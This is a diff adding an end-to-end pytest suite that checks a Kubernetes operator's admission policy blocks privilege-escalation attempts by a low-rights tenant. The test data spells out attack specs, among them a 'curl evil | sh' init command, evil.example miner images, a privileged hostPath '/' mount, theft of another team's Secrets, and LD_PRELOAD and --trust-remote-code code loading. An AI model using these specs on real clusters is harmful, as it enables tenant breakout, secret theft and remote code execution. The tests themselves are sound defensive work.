@@ -1,0 +1,692 @@
+"""Tenants on the real control plane: what a user holding only the chart's roles can make kvpilot do.
+
+Each finding of the attacker's run is a test here. ``alice`` holds only the chart's ``kvpilot-edit`` and
+``kvpilot-view`` ClusterRoles in ``tenant-a`` (through RoleBindings), plus ``get`` on her own Hub token
+``hf-alice``: no pods, Deployments, Secrets, ConfigMaps, PVCs or Services. ``tenant-a`` also holds another
+team's Secret ``team-db`` and Deployment ``team-app``; ``tenant-b`` is another tenant she has no rights in.
+``bob`` holds the built-in ``edit`` role in ``tenant-a`` (he may create pods, so the policy lets him be).
+
+* spec.template (sidecars, init containers, volumes, env, identity, the node, scheduling, annotations),
+  code-loading engine arguments and environment, storage.claimTemplate: refused for alice with a message
+  naming the field and why, on create and on update; the same spec from bob is admitted.
+* The CRD's schema, for everyone: names a Service cannot take, whitespace in images and Secret names,
+  ``serve`` as a later token, a 1.2 MB spec.
+* EngineTuners: a target she may not update (Auto, Initial) or get, a Hub token she may not read.
+* The CEL cost: a template at its bounds naming 16 distinct Secrets is admitted; 17 are refused by name.
+* ``kubectl auth can-i --list`` of the chart's user roles and of the operator's ServiceAccount.
+* An administrator's allow-lists (``helm upgrade --set``) open what they name, and nothing else.
+
+The module starts its own cluster and ``helm install``s the chart with its defaults.
+"""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from e2e.cluster import LocalCluster
+from e2e.waits import wait_for
+from kvpilot.operator.api import DEFAULT_IMAGE
+
+ROOT = Path(__file__).resolve().parents[1]
+NS = "kvpilot-system"
+SA_USER = f"system:serviceaccount:{NS}:kvpilot"
+A, B = "tenant-a", "tenant-b"
+POLICY = "ValidatingAdmissionPolicy 'kvpilot-inferenceservices'"
+ET_POLICY = "ValidatingAdmissionPolicy 'kvpilot-enginetuners'"
+MODEL = {"id": "meta-llama/Llama-3.1-8B-Instruct"}
+WHO = f"alice may not create pods in namespace {A}"
+
+
+class Tenants:
+    def __init__(self, cluster: LocalCluster, home: Path) -> None:
+        self.cluster = cluster
+        self.env = {
+            **os.environ,
+            **cluster.env(),
+            "HELM_CACHE_HOME": str(home / "helm-cache"),
+            "HELM_CONFIG_HOME": str(home / "helm-config"),
+            "HELM_DATA_HOME": str(home / "helm-data"),
+        }
+
+    def kubectl(
+        self, *args: str, input: str | None = None, check: bool = True
+    ) -> subprocess.CompletedProcess[str]:
+        return self.cluster.kubectl(*args, input=input, check=check)
+
+    def helm(self, *args: str) -> str:
+        return subprocess.run(
+            [str(self.cluster.helm_bin), *args],
+            env=self.env,
+            cwd=ROOT,
+            check=True,
+            capture_output=True,
+            text=True,
+            timeout=600,
+        ).stdout
+
+    def create_as(
+        self, user: str, spec: dict[str, Any], name: str, kind: str = "InferenceService", ns: str = A
+    ) -> subprocess.CompletedProcess[str]:
+        manifest = {
+            "apiVersion": "kvpilot.io/v1alpha1",
+            "kind": kind,
+            "metadata": {"name": name},
+            "spec": spec,
+        }
+        return self.kubectl(
+            f"--as={user}", "-n", ns, "create", "-f", "-", input=json.dumps(manifest), check=False
+        )
+
+
+def _role(t: Tenants, ns: str, name: str, user: str, *rule: str) -> None:
+    t.kubectl("-n", ns, "create", "role", name, *rule)
+    t.kubectl("-n", ns, "create", "rolebinding", f"{name}-{user}", f"--role={name}", f"--user={user}")
+
+
+@pytest.fixture(scope="module")
+def t(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tenants]:
+    home = tmp_path_factory.mktemp("tenants")
+    cluster = LocalCluster(home / "cluster", build=True)
+    cluster.start()
+    try:
+        t = Tenants(cluster, home)
+        t.kubectl("create", "namespace", NS)
+        t.helm("install", "kvpilot", "charts/kvpilot", "--namespace", NS)
+        for ns in (A, B):
+            cluster.create_namespace(ns)
+            t.kubectl("-n", ns, "create", "secret", "generic", "team-db", "--from-literal=token=x")
+        for i in range(18):
+            t.kubectl("-n", A, "create", "secret", "generic", f"s{i}", "--from-literal=k=v")
+        t.kubectl("-n", A, "create", "secret", "generic", "hf-alice", "--from-literal=token=x")
+        t.kubectl("-n", A, "create", "deployment", "team-app", f"--image={DEFAULT_IMAGE}")
+        t.kubectl("-n", A, "create", "deployment", "alice-app", f"--image={DEFAULT_IMAGE}")
+        t.kubectl("-n", A, "create", "deployment", "payroll", f"--image={DEFAULT_IMAGE}")
+        # alice: only the chart's user roles, and read access to her own Secrets
+        for role in ("kvpilot-edit", "kvpilot-view"):
+            t.kubectl(
+                "-n", A, "create", "rolebinding", f"alice-{role}", f"--clusterrole={role}", "--user=alice"
+            )
+        _role(
+            t,
+            A,
+            "own-secrets",
+            "alice",
+            "--verb=get",
+            "--resource=secrets",
+            "--resource-name=hf-alice",
+            *(f"--resource-name=s{i}" for i in range(18)),
+        )
+        t.kubectl("-n", A, "create", "rolebinding", "bob-edit", "--clusterrole=edit", "--user=bob")
+        # the policy is in force once the API server has loaded it
+        probe = {"model": MODEL, "engine": {"image": "x/y:1"}}
+        wait_for(
+            lambda: POLICY in t.create_as("alice", probe, "probe").stderr, 60, "the policy to be enforced"
+        )
+        yield t
+    finally:
+        cluster.stop()
+
+
+def _sidecar(**fields: Any) -> dict[str, Any]:
+    return {"name": "side", "image": DEFAULT_IMAGE, **fields}
+
+
+def _pod(**spec: Any) -> dict[str, Any]:
+    return {"model": MODEL, "template": {"spec": spec}}
+
+
+T = "spec.template.spec"
+REFUSED: dict[str, tuple[dict[str, Any], str]] = {
+    # ---- finding 1: spec.template
+    "sidecar-image": (
+        _pod(containers=[_sidecar(image="evil.example/miner:1")]),
+        f"{T}.containers[side].image evil.example/miner:1 not an allowed image",
+    ),
+    "init-image": (
+        _pod(initContainers=[_sidecar(image="evil.example/init:1")]),
+        f"{T}.initContainers[side].image evil.example/init:1 not an allowed image",
+    ),
+    "init-command": (
+        _pod(initContainers=[_sidecar(command=["sh", "-c", "curl evil | sh"])]),
+        f"{T}.initContainers[side].command: {WHO}",
+    ),
+    "exec-probe": (
+        _pod(containers=[_sidecar(livenessProbe={"exec": {"command": ["sh", "-c", "x"]}})]),
+        f"{T}.containers[side].livenessProbe.exec",
+    ),
+    "image-volume": (
+        _pod(volumes=[{"name": "i", "image": {"reference": "evil.example/tools:1"}}]),
+        f"{T}.volumes[i].image evil.example/tools:1 not an allowed image",
+    ),
+    "secret-volume": (
+        _pod(volumes=[{"name": "s", "secret": {"secretName": "team-db"}}]),
+        f"{T}.volumes[s].secret names Secret team-db, which alice may not get",
+    ),
+    "env-from-secret": (
+        _pod(containers=[{"name": "vllm", "envFrom": [{"secretRef": {"name": "team-db"}}]}]),
+        f"{T}.containers[vllm].envFrom.secretRef names Secret team-db, which alice may not get",
+    ),
+    "sidecar-secret-key-ref": (
+        _pod(
+            containers=[
+                _sidecar(
+                    env=[{"name": "PW", "valueFrom": {"secretKeyRef": {"name": "team-db", "key": "token"}}}]
+                )
+            ]
+        ),
+        f"{T}.containers[side].env[PW].valueFrom.secretKeyRef names Secret team-db, which alice may not get",
+    ),
+    "projected-secret": (
+        _pod(volumes=[{"name": "p", "projected": {"sources": [{"secret": {"name": "team-db"}}]}}]),
+        f"{T}.volumes[p].projected.sources.secret names Secret team-db",
+    ),
+    "config-map-volume": (
+        _pod(volumes=[{"name": "c", "configMap": {"name": "kube-root-ca.crt"}}]),
+        f"{T}.volumes[c].configMap names ConfigMap kube-root-ca.crt, which alice may not get",
+    ),
+    "claim-volume": (
+        _pod(volumes=[{"name": "c", "persistentVolumeClaim": {"claimName": "team-data"}}]),
+        f"{T}.volumes[c].persistentVolumeClaim names PersistentVolumeClaim team-data",
+    ),
+    "image-pull-secret": (
+        _pod(imagePullSecrets=[{"name": "team-db"}]),
+        f"{T}.imagePullSecrets names Secret team-db",
+    ),
+    "host-path-privileged": (
+        _pod(
+            volumes=[{"name": "root", "hostPath": {"path": "/"}}],
+            containers=[{"name": "vllm", "securityContext": {"privileged": True}}],
+        ),
+        f"{T}.volumes[root].hostPath, {T}.containers[vllm].securityContext.privileged: {WHO}",
+    ),
+    "host-ipc": (_pod(hostIPC=True), f"{T}.hostIPC: {WHO}"),
+    "host-port": (
+        _pod(containers=[_sidecar(ports=[{"containerPort": 80, "hostPort": 80}])]),
+        f"{T}.containers[side].ports.hostPort",
+    ),
+    "capabilities": (
+        _pod(containers=[{"name": "vllm", "securityContext": {"capabilities": {"add": ["SYS_ADMIN"]}}}]),
+        f"{T}.containers[vllm].securityContext.capabilities.add",
+    ),
+    "escalation": (
+        _pod(containers=[{"name": "vllm", "securityContext": {"allowPrivilegeEscalation": True}}]),
+        f"{T}.containers[vllm].securityContext.allowPrivilegeEscalation",
+    ),
+    "seccomp-unconfined": (
+        _pod(securityContext={"seccompProfile": {"type": "Unconfined"}}),
+        f"{T}.securityContext.seccompProfile Unconfined",
+    ),
+    "csi-volume": (
+        _pod(volumes=[{"name": "c", "csi": {"driver": "secrets-store.csi.k8s.io"}}]),
+        f"{T}.volumes[c].csi",
+    ),
+    "service-account": (
+        _pod(serviceAccountName="cluster-admin-sa"),
+        f"{T}.serviceAccountName cluster-admin-sa (allowed: default): {WHO}",
+    ),
+    "projected-token": (
+        _pod(
+            volumes=[
+                {
+                    "name": "t",
+                    "projected": {"sources": [{"serviceAccountToken": {"audience": "vault", "path": "t"}}]},
+                }
+            ]
+        ),
+        f"{T}.volumes[t].projected.sources.serviceAccountToken: {WHO}",
+    ),
+    "priority-class": (
+        _pod(priorityClassName="system-cluster-critical"),
+        f"{T}.priorityClassName system-cluster-critical (allowed: none)",
+    ),
+    "runtime-class": (
+        _pod(runtimeClassName="kata-host"),
+        f"{T}.runtimeClassName kata-host (allowed: nvidia)",
+    ),
+    "scheduler": (_pod(schedulerName="my-scheduler"), f"{T}.schedulerName my-scheduler"),
+    "annotations": (
+        {
+            "model": MODEL,
+            "template": {"metadata": {"annotations": {"vault.hashicorp.com/agent-inject": "true"}}},
+        },
+        "spec.template.metadata.annotations vault.hashicorp.com/agent-inject not allowed",
+    ),
+    # ---- finding 3: storage.claimTemplate
+    "claim-template": (
+        {
+            "model": {
+                **MODEL,
+                "storage": {
+                    "claimTemplate": {
+                        "size": "1Pi",
+                        "accessMode": "ReadWriteMany",
+                        "storageClassName": "premium",
+                    }
+                },
+            }
+        },
+        "spec.model.storage.claimTemplate size 1Pi above 1Ti, accessMode ReadWriteMany (allowed: "
+        "ReadWriteOnce, ReadWriteOncePod), storageClassName premium (allowed: the default class)",
+    ),
+    "claim-template-unsized": (
+        {"model": {**MODEL, "checkpointBytes": 2**50, "storage": {"claimTemplate": {}}}},
+        "spec.model.storage.claimTemplate no size",
+    ),
+    # ---- finding 4: code-running arguments and environment
+    "trust-remote-code": (
+        {"model": {"id": "alice/backdoored-model"}, "engine": {"extraArgs": ["--trust-remote-code"]}},
+        "spec.engine.extraArgs --trust-remote-code would load code",
+    ),
+    "trust-remote-code-spelt": (
+        {"model": MODEL, "engine": {"extraArgs": ["--trust_remote_code=true"]}},
+        "spec.engine.extraArgs --trust-remote-code would load code",
+    ),
+    "trust-remote-code-prefix": (
+        {"model": MODEL, "engine": {"extraArgs": ["--trust-remote"]}},
+        "spec.engine.extraArgs --trust-remote would load code",
+    ),
+    "worker-extension": (
+        {"model": MODEL, "engine": {"extraArgs": ["--worker-extension-cls", "evil.Ext"]}},
+        "spec.engine.extraArgs --worker-extension-cls",
+    ),
+    "tool-parser-plugin": (
+        {"model": MODEL, "engine": {"extraArgs": ["--tool-parser-plugin=/models/p.py"]}},
+        "spec.engine.extraArgs --tool-parser-plugin",
+    ),
+    "kv-connector-module": (
+        {"model": MODEL, "engine": {"extraArgs": ["--kv-transfer-config.kv_connector_module_path=evil"]}},
+        "spec.engine.extraArgs --kv-transfer-config",
+    ),
+    "ld-preload": (
+        {"model": MODEL, "engine": {"env": [{"name": "LD_PRELOAD", "value": "/models/x.so"}]}},
+        "spec.engine.env LD_PRELOAD would load code into the pod",
+    ),
+    "pythonpath": (
+        {"model": MODEL, "engine": {"env": [{"name": "PYTHONPATH", "value": "/models"}]}},
+        "spec.engine.env PYTHONPATH would load code",
+    ),
+    "vllm-plugins": (
+        {"model": MODEL, "engine": {"env": [{"name": "VLLM_PLUGINS", "value": "evil"}]}},
+        "spec.engine.env VLLM_PLUGINS would load code",
+    ),
+    "sidecar-ld-library-path": (
+        _pod(containers=[_sidecar(env=[{"name": "LD_LIBRARY_PATH", "value": "/x"}])]),
+        f"{T}.containers[side].env LD_LIBRARY_PATH would load code",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(REFUSED))
+def test_refused_for_a_user_with_only_the_charts_roles(t: Tenants, case: str) -> None:
+    spec, message = REFUSED[case]
+    proc = t.create_as("alice", spec, f"a-{case}")
+    assert proc.returncode != 0, f"{case}: admitted"
+    assert POLICY in proc.stderr and message in proc.stderr, proc.stderr
+    assert t.kubectl("-n", A, "get", "inferenceservices.kvpilot.io", f"a-{case}", check=False).returncode
+
+
+@pytest.mark.parametrize("case", sorted(REFUSED))
+def test_the_same_spec_from_a_pod_creator_is_admitted(t: Tenants, case: str) -> None:
+    proc = t.create_as("bob", REFUSED[case][0], f"b-{case}")
+    assert proc.returncode == 0, proc.stderr
+
+
+def test_what_alice_may_use_is_admitted(t: Tenants) -> None:
+    spec = {
+        "model": {
+            **MODEL,
+            "source": "Hub",
+            "hubTokenSecretRef": {"name": "hf-alice"},
+            "storage": {"claimTemplate": {"size": "200Gi", "accessMode": "ReadWriteOnce"}},
+        },
+        "engine": {
+            "extraArgs": ["--no-trust-remote-code", "--reasoning-parser", "deepseek_r1", "--model-impl=vllm"],
+            "env": [{"name": "PYTHONUNBUFFERED", "value": "1"}],
+        },
+        "template": {
+            "metadata": {"annotations": {"kubectl.kubernetes.io/default-container": "vllm"}},
+            "spec": {
+                "runtimeClassName": "nvidia",
+                "serviceAccountName": "default",
+                "containers": [
+                    _sidecar(
+                        env=[
+                            {"name": "T", "valueFrom": {"secretKeyRef": {"name": "hf-alice", "key": "token"}}}
+                        ]
+                    )
+                ],
+                "volumes": [
+                    {"name": "hf", "secret": {"secretName": "hf-alice"}},
+                    {"name": "scratch", "emptyDir": {}},
+                    {
+                        "name": "info",
+                        "downwardAPI": {"items": [{"path": "n", "fieldRef": {"fieldPath": "metadata.name"}}]},
+                    },
+                ],
+            },
+        },
+    }
+    proc = t.create_as("alice", spec, "alice-fine")
+    assert proc.returncode == 0, proc.stderr
+
+
+def test_a_template_added_by_update_is_refused(t: Tenants) -> None:
+    assert t.create_as("alice", {"model": MODEL}, "alice-update").returncode == 0
+    patch = {"spec": {"template": {"spec": {"containers": [_sidecar(image="evil.example/miner:2")]}}}}
+    proc = t.kubectl(
+        "--as=alice",
+        "-n",
+        A,
+        "patch",
+        "inferenceservices.kvpilot.io",
+        "alice-update",
+        "--type=merge",
+        "-p",
+        json.dumps(patch),
+        check=False,
+    )
+    assert proc.returncode != 0 and "evil.example/miner:2 not an allowed image" in proc.stderr, proc.stderr
+
+
+# --------------------------------------------------------------------- finding 5: the schema, for everyone
+
+SCHEMA: dict[str, tuple[str, dict[str, Any], str]] = {
+    "name-with-dot": ("my.model", {"model": MODEL}, "metadata.name must be a DNS-1035 label"),
+    "name-starting-with-digit": ("1model", {"model": MODEL}, "metadata.name must be a DNS-1035 label"),
+    "name-of-64": ("m" * 64, {"model": MODEL}, "metadata.name must be a DNS-1035 label"),
+    "image-with-space": (
+        "sp1",
+        {"model": MODEL, "engine": {"image": "vllm/vllm-openai:v0.33.0 --evil"}},
+        "spec.engine.image",
+    ),
+    "hub-secret-trailing-space": (
+        "sp2",
+        {"model": {**MODEL, "source": "Hub", "hubTokenSecretRef": {"name": "HF_TOKEN "}}},
+        "spec.model.hubTokenSecretRef.name",
+    ),
+    "env-secret-space": (
+        "sp3",
+        {
+            "model": MODEL,
+            "engine": {
+                "env": [{"name": "T", "valueFrom": {"secretKeyRef": {"name": "hf token", "key": "t"}}}]
+            },
+        },
+        "spec.engine.env[0].valueFrom.secretKeyRef.name",
+    ),
+    "sidecar-image-space": (
+        "sp4",
+        _pod(containers=[_sidecar(image="evil latest")]),
+        "spec.template.spec.containers[0].image",
+    ),
+    "serve-later": (
+        "sv",
+        {"model": MODEL, "engine": {"extraArgs": ["--dtype", "auto", "serve"]}},
+        "extraArgs may not contain the token serve",
+    ),
+    "mb-annotation": (
+        "big1",
+        {"model": MODEL, "template": {"metadata": {"annotations": {"x": "a" * 1_200_000}}}},
+        "spec.template.metadata.annotations.x: Too long",
+    ),
+    "mb-args": (
+        "big2",
+        _pod(containers=[_sidecar(args=["a" * 500] * 2400)]),
+        "spec.template.spec.containers[0].args: Too many: 2400: must have at most 32 items",
+    ),
+    "mb-env-value": (
+        "big3",
+        _pod(containers=[_sidecar(env=[{"name": "X", "value": "a" * 1_200_000}])]),
+        "spec.template.spec.containers[0].env[0].value: Too long",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(SCHEMA))
+def test_the_schema_refuses_for_everyone(t: Tenants, case: str) -> None:
+    name, spec, message = SCHEMA[case]
+    proc = t.create_as("bob", spec, name)
+    assert proc.returncode != 0, f"{case}: admitted"
+    assert message in proc.stderr, proc.stderr[:2000]
+
+
+# --------------------------------------------------------------------------- finding 2: EngineTuners
+
+
+def _tuner(target: str, mode: str, **model: Any) -> dict[str, Any]:
+    return {
+        "targetRef": {"kind": "Deployment", "name": target},
+        "updateMode": mode,
+        "model": {**MODEL, **model},
+    }
+
+
+@pytest.fixture(scope="module")
+def tuners(t: Tenants) -> Tenants:
+    """The chart gives users no EngineTuner rights (see the can-i test): an administrator grants them."""
+    _role(
+        t,
+        A,
+        "tuners",
+        "alice",
+        "--verb=get,list,watch,create,update,patch,delete",
+        "--resource=enginetuners.kvpilot.io",
+    )
+    _role(
+        t,
+        A,
+        "own-app",
+        "alice",
+        "--verb=get,update,patch",
+        "--resource=deployments.apps",
+        "--resource-name=alice-app",
+    )
+    _role(t, A, "evict", "alice", "--verb=create", "--resource=pods/eviction")
+    # she may read another team's Deployment (as the built-in view role lets her), not change it
+    _role(
+        t,
+        A,
+        "read-team-app",
+        "alice",
+        "--verb=get",
+        "--resource=deployments.apps",
+        "--resource-name=team-app",
+    )
+    return t
+
+
+@pytest.mark.parametrize(
+    ("case", "spec", "message"),
+    [
+        (
+            "auto-on-another-teams",
+            _tuner("team-app", "Auto"),
+            "Deployment team-app, which alice may not update",
+        ),
+        (
+            "initial-on-another-teams",
+            _tuner("team-app", "Initial"),
+            "alice may not update, so updateMode Initial",
+        ),
+        (
+            "recommend-unreadable",
+            _tuner("payroll", "Recommend"),
+            "Deployment payroll, which alice may not get",
+        ),
+        (
+            "hub-token",
+            _tuner("alice-app", "Recommend", source="Hub", hubTokenSecretRef={"name": "team-db"}),
+            "spec.model.hubTokenSecretRef names Secret team-db, which alice may not get",
+        ),
+    ],
+)
+def test_enginetuner_refused(tuners: Tenants, case: str, spec: dict[str, Any], message: str) -> None:
+    proc = tuners.create_as("alice", spec, f"et-{case}", kind="EngineTuner")
+    assert proc.returncode != 0, f"{case}: admitted"
+    assert ET_POLICY in proc.stderr and message in proc.stderr, proc.stderr
+
+
+def test_enginetuner_on_her_own_deployment_is_admitted(tuners: Tenants) -> None:
+    spec = _tuner("alice-app", "Auto", source="Hub", hubTokenSecretRef={"name": "hf-alice"})
+    proc = tuners.create_as("alice", spec, "et-own", kind="EngineTuner")
+    assert proc.returncode == 0, proc.stderr
+
+
+# --------------------------------------------------------------------------- CEL cost on the real API server
+
+
+def _at_the_bounds(secrets: int) -> dict[str, Any]:
+    """8 sidecars and 8 init containers with 32 env secretKeyRefs and 32 envFrom each, 32 projected volumes of
+    32 sources: 2,048 references to ``secrets`` distinct Secrets alice may read (about 200 KiB)."""
+
+    def container(name: str) -> dict[str, Any]:
+        return {
+            "name": name,
+            "image": DEFAULT_IMAGE,
+            "env": [
+                {"name": f"E{k}", "valueFrom": {"secretKeyRef": {"name": f"s{k % secrets}", "key": "k"}}}
+                for k in range(32)
+            ],
+            "envFrom": [{"secretRef": {"name": f"s{k % secrets}"}} for k in range(32)],
+        }
+
+    volumes = [
+        {
+            "name": f"v{k}",
+            "projected": {"sources": [{"secret": {"name": f"s{(k + m) % secrets}"}} for m in range(32)]},
+        }
+        for k in range(32)
+    ]
+    return _pod(
+        containers=[container(f"c{j}") for j in range(8)],
+        initContainers=[container(f"i{j}") for j in range(8)],
+        volumes=volumes,
+    )
+
+
+def test_a_template_at_its_bounds_fits_the_cel_cost_budget(t: Tenants) -> None:
+    proc = t.create_as("alice", _at_the_bounds(16), "at-the-bounds")
+    assert proc.returncode == 0, proc.stderr
+    proc = t.create_as("alice", _at_the_bounds(17), "over-the-bounds")
+    assert proc.returncode != 0
+    assert "the spec names more than 16 distinct Secrets, ConfigMaps and claims" in proc.stderr, proc.stderr
+
+
+# --------------------------------------------------------------------------- who may do what
+
+
+def _can_i_list(t: Tenants, user: str, ns: str) -> str:
+    return t.kubectl("auth", "can-i", "--list", f"--as={user}", "-n", ns).stdout
+
+
+def _can(t: Tenants, user: str, *args: str) -> bool:
+    out = t.kubectl("auth", "can-i", f"--as={user}", *args, check=False).stdout.strip()
+    assert out in ("yes", "no"), out
+    return out == "yes"
+
+
+def test_the_can_i_matrix_of_the_user_roles_and_the_operator(t: Tenants) -> None:
+    for user, ns in (("alice", A), ("alice", B), (SA_USER, A), (SA_USER, "kube-system")):
+        print(f"\n# kubectl auth can-i --list --as={user} -n {ns}\n{_can_i_list(t, user, ns)}")
+    alice = {
+        what: _can(t, "alice", *what.split())
+        for what in (
+            f"create inferenceservices.kvpilot.io -n {A}",
+            f"create inferenceservices.kvpilot.io -n {B}",
+            f"get secrets -n {A}",
+            f"create pods -n {A}",
+            f"create deployments.apps -n {A}",
+            f"create persistentvolumeclaims -n {A}",
+            f"create services -n {A}",
+            f"get configmaps -n {A}",
+            f"create enginetuners.kvpilot.io -n {B}",
+        )
+    }
+    assert alice == {
+        f"create inferenceservices.kvpilot.io -n {A}": True,
+        f"create inferenceservices.kvpilot.io -n {B}": False,
+        f"get secrets -n {A}": False,
+        f"create pods -n {A}": False,
+        f"create deployments.apps -n {A}": False,
+        f"create persistentvolumeclaims -n {A}": False,
+        f"create services -n {A}": False,
+        f"get configmaps -n {A}": False,
+        f"create enginetuners.kvpilot.io -n {B}": False,  # the chart aggregates no EngineTuner rights
+    }
+    # the operator's ServiceAccount, as the chart grants it today (cluster-wide mode, rbac.secrets.enabled):
+    # it may get any Secret by name in every namespace -- which is why the policy checks the requester's
+    # own rights before kvpilot reads one for her -- but never list them or create pods
+    operator = {
+        what: _can(t, SA_USER, *what.split())
+        for what in (
+            f"get secrets -n {B}",
+            f"list secrets -n {B}",
+            "get secrets -n kube-system",
+            f"create pods -n {B}",
+            f"create deployments.apps -n {B}",
+            f"create persistentvolumeclaims -n {B}",
+        )
+    }
+    print(json.dumps(operator, indent=1))
+    assert operator == {
+        f"get secrets -n {B}": True,
+        f"list secrets -n {B}": False,
+        "get secrets -n kube-system": True,
+        f"create pods -n {B}": False,
+        f"create deployments.apps -n {B}": True,
+        f"create persistentvolumeclaims -n {B}": True,  # claimTemplate: hence the policy's bounds
+    }
+
+
+# ----------------------------------------------------------------------- an administrator opts in (runs last)
+
+
+def test_an_administrators_allow_lists_open_what_they_name(t: Tenants) -> None:
+    before = t.create_as("alice", REFUSED["trust-remote-code"][0], "opt-in-before")
+    assert before.returncode != 0
+    t.helm(
+        "upgrade",
+        "kvpilot",
+        "charts/kvpilot",
+        "--namespace",
+        NS,
+        "--reuse-values",
+        "--set",
+        "admissionPolicy.allowedEngineArgs={--trust-remote-code}",
+        "--set",
+        "admissionPolicy.allowedServiceAccounts={vllm-runner}",
+        "--set",
+        "admissionPolicy.allowedPriorityClasses={team-high}",
+    )
+    opted = {
+        "model": MODEL,
+        "engine": {"extraArgs": ["--trust-remote-code"]},
+        "template": {"spec": {"serviceAccountName": "vllm-runner", "priorityClassName": "team-high"}},
+    }
+    wait_for(lambda: t.create_as("alice", opted, "opt-in").returncode == 0, 60, "the upgraded policy")
+    still = t.create_as(
+        "alice", {"model": MODEL, "engine": {"extraArgs": ["--worker-cls=evil.W"]}}, "opt-in-no"
+    )
+    assert still.returncode != 0 and "--worker-cls" in still.stderr, still.stderr
+
+
+def test_notes_warn_when_the_policy_is_off(t: Tenants) -> None:
+    notes = t.helm(
+        "upgrade",
+        "kvpilot",
+        "charts/kvpilot",
+        "--namespace",
+        NS,
+        "--reuse-values",
+        "--set",
+        "admissionPolicy.enabled=false",
+    )
+    assert "WARNING" in notes and "admissionPolicy.enabled=false" in notes, notes
+    assert t.kubectl("get", "validatingadmissionpolicies", "-o", "name").stdout.strip() == ""
